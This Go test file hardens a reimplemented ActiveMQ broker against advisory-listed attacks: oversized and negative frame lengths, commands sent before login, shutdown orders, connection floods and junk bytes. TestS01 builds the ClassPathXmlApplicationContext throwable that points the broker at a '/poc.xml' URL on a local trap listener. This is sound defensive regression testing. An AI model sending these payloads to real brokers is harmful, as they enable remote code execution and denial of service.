// Package hostile sends the running broker what no client of good will sends, and starts it where it cannot start.
//
// Each attack ends the connection that it comes from, leaves one line in the log that names the cause, and touches nobody
// else. Rows S1 to S22 are those of the published advisories that the broker is to be immune to.
package hostile

import (
	"bytes"
	"math/rand/v2"
	"net"
	"regexp"
	"strings"
	"testing"
	"time"

	"goactivemq/test/broker"
)

func TestMain(m *testing.M) { broker.Main(m) }

// attack is what a connection does. It says at which stage it begins: a fresh TCP connection, one that has exchanged the
// wire format, or one that is logged in.
type attack struct {
	name  string
	stage stage
	send  func(c *broker.Conversation) []byte
	cause string // pattern of the log line

	// javaFails says what ActiveMQ 5.17.2 does instead; the attack is left out there.
	javaFails string
}

type stage int

const (
	fresh stage = iota
	greeted
	loggedIn
)

var attacks = []attack{
	{name: "http_request", stage: fresh, cause: "frame|size|length",
		send: text("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")},
	{name: "unknown_type_first", stage: fresh, cause: "type",
		send: bytesOf(0, 0, 0, 6, 99, 1, 2, 3, 4, 5)},
	{name: "wrong_magic", stage: fresh, cause: "magic|WireFormat",
		send: func(*broker.Conversation) []byte {
			return bytes.Replace(broker.Hello().Bytes(), []byte("ActiveMQ"), []byte("PassiveM"), 1)
		}},
	{name: "S07_wire_format_of_a_gigabyte", stage: fresh, cause: "frame|size|length", send: bytesOf(0x40, 0, 0, 0, 1)},
	{name: "S07_properties_of_a_gigabyte", stage: fresh, cause: "length|size|beyond|bytes",
		send: func(*broker.Conversation) []byte {
			hello := broker.Hello().Bytes()
			return append(hello[:len(hello)-8], 0x40, 0, 0, 0, 0, 0, 0, 0)
		}, javaFails: "runs out of memory"},
	{name: "S07_two_billion_properties", stage: fresh, cause: "map|properties|length|count|entries|size",
		send: func(*broker.Conversation) []byte {
			hello := broker.Hello().Bytes()
			return append(hello[:len(hello)-4], 0x7f, 0xff, 0xff, 0xff)
		}},
	{name: "frame_above_the_limit", stage: greeted, cause: "frame|size|max", send: bytesOf(0x08, 0, 0, 0, 3, 0, 0, 0, 1)},
	{name: "frame_of_negative_size", stage: greeted, cause: "frame|size|negative|length",
		send: bytesOf(0xff, 0xff, 0xff, 0xf0, 3, 0, 0, 0, 1), javaFails: "ignores the size"},
	{name: "frame_of_least_size", stage: loggedIn, cause: "frame|size|negative|length",
		send: bytesOf(0x80, 0, 0, 0, 3, 0, 0, 0, 1), javaFails: "ignores the size"},
	{name: "unknown_type", stage: loggedIn, cause: "type", send: bytesOf(0, 0, 0, 6, 99, 0, 0, 0, 1, 0)},
	{name: "frame_too_short_for_its_type", stage: loggedIn, cause: "frame|left|end", send: bytesOf(0, 0, 0, 3, 4, 0, 0),
		javaFails: "waits for the rest, beyond the frame"},
	{name: "S07_string_beyond_its_frame", stage: loggedIn, cause: "string|length|frame|left|end",
		send: func(c *broker.Conversation) []byte {
			return c.Next(broker.ControlCommand).Raw([]byte{1, 0xff, 0xff}).Raw([]byte("abc")).Bytes()
		}, javaFails: "waits for the rest, beyond the frame"},
	{name: "S07_content_of_a_gigabyte", stage: loggedIn, cause: "length|frame|size|left|end",
		send: func(c *broker.Conversation) []byte {
			return c.Next(broker.TextMessage).Nulls(7).Int(0).Nulls(1).Bool(false).Long(0).Byte(4).Nulls(1).Long(0).Nulls(1).
				Raw([]byte{1, 0x40, 0, 0, 0}).Bytes()
		}, javaFails: "runs out of memory"},
	{name: "S11_session_before_login", stage: greeted, cause: "before|login|ConnectionInfo|not connected",
		send: func(c *broker.Conversation) []byte {
			return c.Next(broker.SessionInfo).Byte(1).Byte(121).String("ID:nobody-1").Long(1).Bytes()
		}, javaFails: "answers as if all were well"},
	{name: "S11_destination_before_login", stage: greeted, cause: "before|login|ConnectionInfo|not connected",
		send: func(c *broker.Conversation) []byte {
			return c.Next(broker.DestinationInfo).Byte(1).Byte(120).String("ID:nobody-1").Byte(1).Byte(100).String("intruder").
				Byte(0).Long(0).Nulls(1).Bytes()
		}, javaFails: "answers with a null pointer exception and stays connected"},
	{name: "S11_unsubscription_before_login", stage: greeted, cause: "before|login|ConnectionInfo|not connected",
		send: func(c *broker.Conversation) []byte {
			return c.Next(broker.RemoveSubscriptionInfo).Byte(1).Byte(120).String("ID:nobody-1").String("sub").String("client").Bytes()
		}, javaFails: "answers with a null pointer exception and stays connected"},
}

func bytesOf(b ...byte) func(*broker.Conversation) []byte {
	return func(*broker.Conversation) []byte { return append([]byte(nil), b...) }
}

func text(s string) func(*broker.Conversation) []byte { return bytesOf([]byte(s)...) }

// TestAttacks runs all attacks against one broker, in whose service a client of good will stays connected.
func TestAttacks(t *testing.T) {
	b := broker.Start(t, broker.Config{XML: broker.Plain})
	good := b.Connect(t)
	good.RoundTrip("before all")
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			if broker.Java() && a.javaFails != "" {
				t.Skip(a.javaFails)
			}
			from := len(b.Log())
			c := begin(t, b, a.stage)
			c.Put(a.send(c))
			c.Closed(10 * time.Second)
			oneLine(t, b, from, c.LocalAddr(), a.cause)
		})
		good.RoundTrip("after " + a.name)
	}
	if !b.Running() {
		t.Error("the broker has ended")
	}
}

func begin(t *testing.T, b *broker.Broker, at stage) *broker.Conversation {
	t.Helper()
	if at == loggedIn {
		return b.Connect(t)
	}
	c := b.Dial(t)
	if at == greeted {
		c.Greet()
	}
	return c
}

// oneLine wants exactly one line about a client in the log since from, and the cause in it.
func oneLine(t *testing.T, b *broker.Broker, from int, client net.Addr, cause string) {
	t.Helper()
	about := func() (lines []string) {
		for line := range strings.Lines(b.Log()[from:]) {
			if strings.Contains(line, client.String()) {
				lines = append(lines, strings.TrimSpace(line))
			}
		}
		return lines
	}
	broker.Poll(5*time.Second, func() bool { return len(about()) > 0 })
	lines := about()
	if len(lines) != 1 {
		t.Errorf("%d lines about %v in the log, want 1: %q; all since the attack:\n%s", len(lines), client, lines, b.Log()[from:])
		return
	}
	if !regexp.MustCompile("(?i)" + cause).MatchString(strings.ReplaceAll(lines[0], client.String(), "")) {
		t.Errorf("the line %q does not tell the cause, %s", lines[0], cause)
	}
}

// TestS01NoClassIsLoaded sends a throwable whose class, were it made, would fetch a file from an address of ours, in each
// command that carries one, before and after login.
func TestS01NoClassIsLoaded(t *testing.T) {
	if broker.Java() {
		t.Skip("ActiveMQ 5.17.2 is open to it")
	}
	trap, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer trap.Close()
	caught := make(chan net.Addr, 1)
	go func() {
		if conn, err := trap.Accept(); err == nil {
			caught <- conn.RemoteAddr()
			conn.Close()
		}
	}()
	b := broker.Start(t, broker.Config{XML: broker.Plain})
	throwable := func(f *broker.Frame) []byte {
		return f.Byte(1).String("org.springframework.context.support.ClassPathXmlApplicationContext").
			String("http://" + trap.Addr().String() + "/poc.xml").Bytes()
	}
	for _, at := range []stage{fresh, greeted, loggedIn} {
		for _, kind := range []byte{broker.ExceptionResponse, broker.ConnectionError, broker.MessageAck} {
			c := begin(t, b, at)
			f := c.Next(kind)
			switch kind {
			case broker.ExceptionResponse:
				f.Int(1)
			case broker.MessageAck:
				f.Nulls(3).Byte(1).Nulls(2).Int(1)
			}
			c.Put(throwable(f))
			if at != loggedIn {
				c.Closed(10 * time.Second)
			}
			b.Connect(t).RoundTrip("served")
		}
	}
	select {
	case from := <-caught:
		t.Errorf("the broker called %v from %v", trap.Addr(), from)
	default:
	}
}

// TestS17ClientsDoNotStopTheBroker: the commands for it have no effect beyond the connection that sends them.
func TestS17ClientsDoNotStopTheBroker(t *testing.T) {
	b := broker.Start(t, broker.Config{XML: broker.Plain})
	good := b.Connect(t)
	for _, order := range []string{"shutdown", "terminate", "stop"} {
		c := b.Connect(t)
		c.Put(c.Next(broker.ControlCommand).String(order).Bytes())
		c.Put(c.Next(broker.ShutdownInfo).Bytes())
		c.Closed(20 * time.Second)
		good.RoundTrip("after " + order)
		b.Connect(t).RoundTrip("new after " + order)
	}
	if !b.Running() {
		t.Error("the broker has ended")
	}
}

// TestHalfOpenConnectionEnds: who connects and says nothing, or not all of it, is cut off after the time for that. The
// original's 30 seconds are an option of its inactivity monitor.
func TestHalfOpenConnectionEnds(t *testing.T) {
	b := broker.Start(t, broker.Config{XML: strings.Replace(broker.Plain, "maximumConnections=1000", "transport.connectAttemptTimeout=1500", 1)})
	good := b.Connect(t)
	silent, halting := b.Dial(t), b.Dial(t)
	halting.Put(broker.Hello().Bytes()[:9])
	for _, c := range []*broker.Conversation{silent, halting} {
		from := 0
		c.Closed(15 * time.Second)
		oneLine(t, b, from, c.LocalAddr(), "time|WireFormat|inactiv|wait|connect")
	}
	good.RoundTrip("still here")
}

// TestS07FloodOfLengths opens many connections that announce a gigabyte each and send a little of it.
func TestS07FloodOfLengths(t *testing.T) {
	const connections, allowance = 64, 32 << 20
	b := broker.Start(t, broker.Config{XML: strings.Replace(broker.Plain, "wireFormat.maxFrameSize=104857600", "wireFormat.maxFrameSize=2147483647", 1)})
	good := b.Connect(t)
	good.RoundTrip("before")
	_, before := b.Memory()
	for n := range connections {
		c := b.Dial(t)
		if n%2 == 0 {
			c.Greet()
		}
		c.Put([]byte{0x40, 0, 0, 0, broker.TextMessage})
		c.Put(bytes.Repeat([]byte{1}, 1000))
	}
	good.RoundTrip("after") // by then the broker has read most of it
	b.Connect(t).RoundTrip("new after")
	if _, peak := b.Memory(); peak-before > allowance && !broker.Java() {
		t.Errorf("memory rose from %d to %d kB, want at most %d more", before>>10, peak>>10, allowance>>10)
	}
}

// TestManyBadConnections: a thousand bad beginnings do not wear the broker out.
func TestManyBadConnections(t *testing.T) {
	b := broker.Start(t, broker.Config{XML: broker.Plain})
	good := b.Connect(t)
	random := rand.New(rand.NewPCG(1, 0))
	for n := range 1000 {
		c, err := net.DialTimeout("tcp", b.Addr(), 5*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		junk := make([]byte, 1+n%40)
		for i := range junk {
			junk[i] = byte(random.Uint32())
		}
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		_, _ = c.Write(junk) // the broker may close at any byte
		c.Close()
		if n%250 == 0 {
			good.RoundTrip("among them")
		}
	}
	good.RoundTrip("after them")
	b.Connect(t).RoundTrip("new after them")
}
